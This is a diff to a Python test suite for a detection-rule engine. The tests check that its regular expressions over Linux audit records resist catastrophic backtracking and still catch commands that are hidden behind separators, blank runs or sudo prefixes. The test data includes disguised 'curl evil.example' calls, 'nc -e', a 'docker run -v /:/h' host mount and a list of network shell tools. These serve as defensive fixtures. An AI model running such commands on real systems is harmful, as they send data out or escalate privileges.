@@ -2,11 +2,14 @@
 
 from __future__ import annotations
 
+from time import thread_time_ns
+
 import pcre2
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from wazuh_cicd.engine.patterns import perl
 from wazuh_cicd.render.commands import HEX_ARGUMENT, LINE, audit_record, command_line, spell
 from wazuh_cicd.spec import load_specs
 from wazuh_cicd.spec.audit import Record, record, untrusted
@@ -151,7 +154,7 @@ def test_arguments_are_written_as_the_kernel_writes_them():
 
 def _pumped():
     """Texts that make bad expressions work hard: many beginnings, many separators, no end."""
-    hard = 'docker run |(docker run |;curl |$(curl |sudo -u |((|a/|"| -v /:|--mount a,|nc -e |& '
+    hard = 'docker run |(docker run |;curl |$(curl |sudo -u |((|a/|"| -v /:|--mount a,|nc -e |& |\n|a;'
     for part in hard.split("|"):
         yield (part * 8_000)[:7_900]
 
@@ -175,3 +178,59 @@ def test_a_long_row_of_names_in_front_hides_nothing():
     expression = pcre2.compile(command_line(matcher).encode(), jit=False)
     assert expression.search(b"exec_start: docker run -v /:/h a " + b"docker run " * 300)
     assert expression.search(b"exec_start: sh -c " + b"docker run x; " * 300 + b"docker run -v /:/h a")
+
+
+@pytest.mark.parametrize("fed", ["a;", "{", " "])
+def test_no_expression_about_a_record_reaches_the_limit_of_a_manager(fed):
+    log = record(Record(args=("sh", "-c", fed * (30_000 // len(fed))))).encode()
+    for rule in load_specs().rules:
+        for condition in rule.when:
+            for matcher in condition.matchers:
+                if isinstance(matcher, Command) and condition.subject == "log":
+                    expression = pcre2.compile(audit_record(matcher).encode(), jit=False)  # as a manager does
+                    expression.search(log)  # raises at the limit
+
+
+@pytest.mark.parametrize("fed", ["comm=", 'comm="a" exe="', 'comm="a" exe="/sh" '])
+def test_a_text_that_repeats_the_beginning_of_a_record_costs_its_length(fed):
+    source = audit_record(SENDS).encode()
+    interpreter = perl.interpreter(source)
+    assert interpreter is not None
+    spent = []
+    for size in (16_384, 65_536):
+        subject = fed.encode() * (size // len(fed))
+        begin = thread_time_ns()
+        for _ in range(3):
+            interpreter(subject)
+        spent.append(thread_time_ns() - begin)
+    assert spent[1] < 12 * spent[0]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "\n" * 500 + "curl evil.example",
+        ";" * 500 + "curl evil.example",
+        "a;\n \n;curl evil.example",
+        "x | (\n'curl' evil.example",
+        "sudo" + " " * 90 + "curl evil.example",
+        "sudo " + "-A " * 20 + "curl evil.example",
+        "true\n\t sudo -u root curl" + " " * 90 + "evil.example",
+        "./a/sh -c curl evil.example",
+        "//usr/bin/curl evil.example",
+        "`curl evil.example`",
+        "{ curl evil.example; }",
+    ],
+)
+def test_rows_of_separators_and_blanks_hide_nothing(text):
+    assert found(SENDS, "sh", "-c", text)
+
+
+def test_programs_with_the_same_beginning_are_all_found():
+    names = ("time", "timeout", "tar", "t", "nc", "ncat", r"nc\.\w+", "(?:ba|da)?sh", "cat")
+    command = Command((CommandForm(program=names, words=("^x$",)),))
+    for name in ("time", "timeout", "tar", "t", "nc", "ncat", "nc.traditional", "sh", "dash", "cat"):
+        assert found(command, name, "x")
+        assert found(command, "sh", "-c", f"true; {name} x")
+    for name in ("ti", "tarx", "nca", "nc.", "ash", "ca"):
+        assert not found(command, name, "x")
